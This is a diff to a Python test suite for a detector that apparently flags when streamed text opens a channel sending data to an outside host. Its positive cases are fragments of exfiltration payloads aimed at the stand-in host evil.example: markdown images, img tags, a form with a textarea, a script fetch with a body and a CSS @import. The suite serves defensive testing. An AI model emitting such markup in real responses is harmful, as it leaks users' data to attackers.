@@ -37,6 +37,24 @@ def inside(*pieces, json=False):
         "<https://evil.example/a ",
         'https://evil.example/?q="',
         "https://evil.example/?q=`",
+        "https://evil.example/?q=<b>",
+        "https://evil.example/?q=<b",
+        "<img src='https://evil.example/?a>b ",
+        '<img src="https://evil.example/?a>b ',
+        "<img alt='>' src='https://evil.example/ ",
+        "<a b = '>' ",
+        "evil.example\\",
+        "evil.example#",
+        "evil.example:",
+        "evil.museumcenter/",
+        "evil\u3002example/",
+        "![x](evil.example/ ",
+        "![x](//evil.example/\\\n",
+        "![x][",
+        "<form action=//evil.example><textarea name=q>",
+        "<form action=//evil.example><b>x</b> ",
+        "<SCRIPT>fetch('//evil.example/', {body:\n '",
+        "<style>@import '//evil.example/\n",
     ],
 )
 def test_here_a_value_would_be_sent_away(text):
@@ -62,6 +80,14 @@ def test_here_a_value_would_be_sent_away(text):
         "Dr. ",
         "3.5/",
         "# heading ",
+        "see [this](https://example.org/a b) and ",
+        "<form action=//x.example></form>",
+        "<script>x</script> <b>",
+        "it's <b>",
+        '<a title="a > b">',
+        "[1] ",
+        "SSN:",
+        "MRN#",
     ],
 )
 def test_here_a_reader_reads_on(text):
@@ -116,3 +142,31 @@ def test_any_cut_gives_the_same(pieces, json, cuts):
     places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
     chunks = [text[a:b] for a, b in pairwise(places)]
     assert inside(*chunks, json=json) == inside(text, json=json) == inside(*text, json=json)
+
+
+HARD = [
+    "<",
+    ">",
+    "a",
+    "script",
+    "/script",
+    " ",
+    "=",
+    "'",
+    '"',
+    "https://",
+    ".example/",
+    "](",
+    ")",
+    "[",
+    "!",
+    "\n",
+    "form",
+]
+
+
+@given(st.lists(st.sampled_from(HARD), max_size=14), st.data())
+def test_tags_and_links_do_not_depend_on_cuts(pieces, data):
+    text = "".join(pieces)
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
+    assert inside(*(text[a:b] for a, b in pairwise([0, *cuts, len(text)]))) == inside(text)
